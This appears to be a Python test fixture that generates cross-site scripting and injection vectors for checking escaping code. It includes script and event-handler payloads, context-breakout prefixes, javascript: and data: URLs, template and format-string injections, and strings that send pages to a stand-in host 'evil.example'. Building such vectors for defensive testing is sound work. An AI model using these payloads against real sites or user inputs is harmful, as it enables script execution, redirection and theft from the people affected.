"""Texts that become a program wherever somebody forgot that they are texts. Generated: each trick in each place it may break out of."""

from __future__ import annotations

MARK = "window.xss=1"

# What runs by itself once it is markup.
TRICKS = (
    f"<script>{MARK}</script>",
    f'<img src=x onerror="{MARK};alert(1)">',
    f"<svg/onload={MARK}>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f"<details open ontoggle={MARK}>x</details>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f'<a href="javascript:{MARK}">x</a>',
    f'<object data="javascript:{MARK}"></object>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{MARK}">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>*{background:url(https://evil.example/x)}</style>",
)
# How it gets out of where it was put.
ESCAPES = ("{}", '">{}', "'>{}", "</script>{}", "</textarea></title>{}", "-->{}", "]]>{}", "\u2028{}")
# Not markup, yet a program to whoever evaluates, links or formats it.
OTHERS = (
    f"javascript:{MARK}", f"JaVaScRiPt://%0a{MARK}", f"data:text/html,<script>{MARK}</script>", f"vbscript:{MARK}", f"http://x/?javascript:{MARK}",
    "mailto:a@b.example?body=<script>", "www.evil.example/\"onmouseover=alert(1)//", "https://evil.example/'\"><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "{% debug %}", "{0.__class__}", "%(password)s", "%s%s%n", "__proto__",
    "&lt;img src=x onerror=alert(1)&gt;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>", "\u202egpj.exe\u202c", "＜script＞alert(1)＜/script＞", '{"type":"put"}', "*/alert(1)/*", "';alert(1)//",
)  # fmt: skip

VECTORS = tuple(dict.fromkeys([*(escape.format(trick) for trick in TRICKS for escape in ESCAPES), *OTHERS]))
